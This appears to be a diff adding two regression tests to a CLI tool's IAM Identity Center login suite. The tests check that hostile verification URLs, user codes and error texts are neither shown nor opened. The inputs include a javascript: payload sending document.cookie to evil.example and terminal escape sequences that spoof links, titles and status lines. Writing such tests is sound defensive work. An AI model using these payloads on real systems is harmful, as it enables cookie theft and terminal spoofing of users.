@@ -327,4 +327,46 @@ describe('IAM Identity Center (SSO)', () => {
     assert.ok(profiles.some((p) => p.endsWith('.Viewer')) && !profiles.includes('default'), listed.stdout);
     assert.ok(!existsSync(marker), 'the portal\'s command never ran');
   });
+
+  test('regression: a hostile endpoint\'s verification URL and user code are never shown or opened; login fails in one line', async () => {
+    const bin = join(w.home, 'bin');
+    const log = join(w.home, 'hostile-browser.log');
+    mkdirSync(bin, { recursive: true });
+    writeFileSync(join(bin, 'xdg-open'), `#!/bin/sh\necho "$1" >> ${log}\n`);
+    chmodSync(join(bin, 'xdg-open'), 0o755);
+    const browserEnv = { ...env, DISPLAY: ':99', PATH: `${bin}:${process.env.PATH}` };
+    const answers = [
+      { verificationUriComplete: 'javascript:fetch("//evil.example/"+document.cookie)' },
+      { verificationUriComplete: 'http://evil.example/device?user_code=ABCD' },
+      { verificationUriComplete: 'https://login.example/\x1b]8;;https://evil.example\x07device' },
+      { userCode: '\x1b[2J\x1b]0;owned\x07ABCD-EFGH' },
+    ];
+    try {
+      for (const deviceAnswer of answers) {
+        await w.emu.control('POST', 'sso/behaviour', { deviceAnswer });
+        const r = await onPty(`${KEYROLE} login my-sso`, [], browserEnv, 60_000);
+        assert.equal(r.code, 1, r.screen);
+        assert.match(r.screen, /keyrole: IAM Identity Center answered with a (verification URL keyrole will not show or open|user code that cannot be shown)/);
+        // eslint-disable-next-line no-control-regex
+        assert.doesNotMatch(r.screen, /Open:|Code:|evil\.example\/device|document\.cookie|\x1b\]|\x1b\[2J/, 'nothing from the answer reached the terminal');
+      }
+    } finally {
+      await w.emu.control('POST', 'sso/behaviour', { deviceAnswer: null });
+    }
+    assert.ok(!existsSync(log), 'no browser was opened');
+  });
+
+  test('regression: error texts from the portal reach the terminal without control characters', async () => {
+    await w.emu.behaviour({ faults: [{ action: 'GetRoleCredentials', kind: 'error', status: 403, code: 'ForbiddenException', message: 'No access\x1b]0;owned\x07\x1b[2J\r\nkeyrole: all is well; nothing to do\u009b31m', times: 1 }] });
+    try {
+      const r = await w.keyrole(['process', 'sso-ro', '--cache', 'none'], { env });
+      assert.equal(r.code, 1, r.stderr);
+      assert.match(r.stderr, /^keyrole: IAM Identity Center gives you no access to role ReadOnlyAccess in account \d{12} \(No access keyrole: all is well; nothing to do\); /);
+      // eslint-disable-next-line no-control-regex
+      assert.doesNotMatch(r.stderr.trimEnd(), /[\x00-\x1f\x7f-\x9f]/);
+      assert.equal(r.stderr.trimEnd().split('\n').length, 1);
+    } finally {
+      await w.emu.behaviour({ faults: [] });
+    }
+  });
 });
